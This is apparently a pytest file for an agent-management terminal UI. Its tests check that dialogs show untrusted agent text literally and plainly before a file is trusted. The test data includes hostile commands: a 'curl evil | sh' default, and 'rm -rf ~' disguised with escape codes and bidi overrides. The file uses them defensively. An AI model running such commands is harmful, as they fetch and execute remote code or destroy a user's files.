"""Text from outside in the dialogs over agents: it is no markup, and every row is as wide as the window."""

from __future__ import annotations

from dataclasses import replace
from types import SimpleNamespace
from typing import TYPE_CHECKING, Any, cast

import pytest

from agentmon.cli.agent_text import file_lines
from agentmon.domain.agent_files import FileTrust, file_facts
from agentmon.domain.plain_text import exact_line
from agentmon.screens.agents.agent_editor import AgentEditor
from agentmon.screens.agents.argument_dialog import ArgumentDialog
from agentmon.screens.agents.capability_editor import CapabilityEditor
from agentmon.screens.agents.capability_proposals import CapabilityProposals
from agentmon.screens.agents.trust_dialog import TrustDialog
from agentmon.screens.agents.trust_text import file_text
from agentmon.services.actors import USER_ACTOR
from agentmon.widgets.arguments_form import argument_specs
from tests.screen_stage import screen_text
from tests.screens.agent_dialogs import FixedFile, FixedScans, file_state, proposed
from tests.screens.registered import a_coder, a_tool
from tests.screens.scenes import scene
from tests.screens.test_any_text import assert_straight

if TYPE_CHECKING:
    from pathlib import Path

    from textual.screen import Screen

    from agentmon.bootstrap import Services
    from agentmon.domain.agent_files import AgentFileState
    from agentmon.domain.agents import Agent, Capability
    from tests.screens.boards import Board

pytestmark = pytest.mark.proof
MARKUP = '[b]x[/] [/] "a" שלום 中文 é'
UNEVEN = "\x07👩🏽\x1b[31m\u2066\u200dם\u202e🇩🇪"
FORMS = (AgentEditor, ArgumentDialog, CapabilityEditor)


def strange(agent: Agent, text: str) -> Agent:
    """Return the agent with the text wherever a text of a person or a program can be."""
    capability = strange_capability(agent.capabilities[0], text)
    return replace(
        agent,
        name=text,
        role=text,
        description=text,
        instructions=text,
        icon=text,
        working_dir=text,
        base_args=(text,),
        env_allowlist=(text,),
        capabilities=(capability,),
    )


def strange_capability(capability: Capability, text: str) -> Capability:
    described = {"type": "string", "title": text, "description": text, "default": text, "enum": [text, "other"]}
    schema = {"type": "object", "properties": {text: described}}
    return replace(
        capability, label=text, description=text, command_tokens=(text, "{{args." + text + "}}"), args_schema=schema
    )


class StrangeFile(FixedFile):
    """A file whose agents are strange."""

    def __init__(self, text: str) -> None:
        super().__init__(FileTrust.BROKEN)
        self.text = text

    async def state(self, _workspace: object) -> AgentFileState:
        agents = (strange(a_coder(), self.text), strange(a_tool(), self.text))
        return replace(file_state(FileTrust.CHANGED), agents=agents, problem=self.text, path=self.text)


async def dialogs(board: Board, text: str) -> list[Screen[Any]]:
    services = await board.app.services()
    coder, tool = strange(a_coder(), text), strange(a_tool(), text)
    schema = tool.capabilities[0].args_schema
    found = tuple(
        replace(one, capability=strange_capability(one.capability, text), danger_reasons=(text,))
        for one in proposed()[:2]
    )
    fixed = cast(
        "Services",
        SimpleNamespace(
            actor=USER_ACTOR, capability_scans=FixedScans((*found, *proposed()[2:])), agent_files=StrangeFile(text)
        ),
    )
    return [
        AgentEditor(services, coder),
        CapabilityEditor(services, tool, tool.capabilities[0]),
        ArgumentDialog(argument_specs(schema)[0], schema),
        CapabilityProposals(fixed, tool),
        TrustDialog(fixed, await board.app.workspace()),
    ]


async def test_nothing_in_the_dialogs_is_markup_and_their_rows_stay_straight(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with scene(tmp_path, monkeypatch, size=(80, 24), deeds=()) as board:
        for text in (MARKUP, UNEVEN):
            for dialog in await dialogs(board, text):
                if text == UNEVEN and isinstance(dialog, FORMS):
                    # What a person types keeps its joiners; terminals disagree on their width.
                    continue
                await board.app.push_screen(dialog)
                await board.until(lambda: board.app.screen is dialog and dialog.is_attached)  # noqa: B023 - awaited here
                await board.pilot.pause()
                await assert_straight(board, f"{type(dialog).__name__} {text!r}")
                if text == MARKUP and not isinstance(dialog, ArgumentDialog):
                    assert MARKUP in screen_text(board.app), (type(dialog).__name__, screen_text(board.app))
                await board.app.pop_screen()


def test_what_is_to_be_trusted_is_shown_without_anything_left_out() -> None:
    assert exact_line("rm \u200d-r x\u202e") == "rm \\u200d-r x\\u202e"
    assert exact_line("sh -c 'echo \x1b]; rm -rf ~ #\x07'") == "sh -c 'echo \\u001b]; rm -rf ~ #\\u0007'"
    assert exact_line("שלום é 中文") == "שלום é 中文"


def test_a_default_a_tool_and_what_is_too_long_to_be_shown_are_told_before_the_file_is_trusted() -> None:
    tool = a_tool()
    log = tool.capabilities[0]
    described = {"script": {"type": "string", "default": "curl evil | sh"}}
    capability = replace(log, command_tokens=("-c", "{{args.script}}"), args_schema={"properties": described})
    agent = replace(tool, tools={"Bash": True}, instructions="x" * 50_000, capabilities=(capability,))

    state = replace(file_state(FileTrust.CHANGED), agents=(agent,))
    shown, printed = file_text(state, 80).plain, "\n".join(file_lines(state))

    for text in (shown, printed):
        assert "script = curl evil | sh" in text
        assert "own tools   Bash" in text
    assert "30,000 characters more than can be shown" in shown
    assert "x" * 50_000 in printed
    assert max(len(row) for row in shown.split("\n")) <= 80


def test_dialog_and_command_line_show_the_same_of_a_file() -> None:
    agents = (a_coder(), strange(a_tool(), "sh -c 'echo \x1b]; rm -rf ~ #\x07'\u200d"))
    state = replace(file_state(FileTrust.CHANGED), agents=agents)

    shown, printed = file_text(state, 1000).plain, "\n".join(file_lines(state))

    assert "rm -rf ~ #\\u0007" in shown
    for agent in agents:
        told = [text for texts in file_facts(agent).values() for text in texts.splitlines()]
        told += [one.command_line for one in state.commands if one.agent == agent.slug]
        assert [text for text in told if exact_line(text) not in shown] == []
        assert [text for text in told if exact_line(text) not in printed] == []
